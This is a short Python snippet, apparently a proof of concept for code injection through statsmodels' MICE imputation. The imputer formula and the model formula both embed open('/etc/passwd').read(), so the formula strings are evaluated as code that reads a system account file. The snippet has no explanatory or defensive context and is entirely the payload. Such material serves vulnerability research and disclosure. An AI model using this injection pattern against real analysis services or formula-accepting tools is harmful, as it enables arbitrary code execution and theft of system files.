from statsmodels.imputation import mice
imp = mice.MICEData(data["x"])
imp.set_imputer("x", "y + open('/etc/passwd').read()")
m = mice.MICE("y ~ open('/etc/passwd')", None, imp)
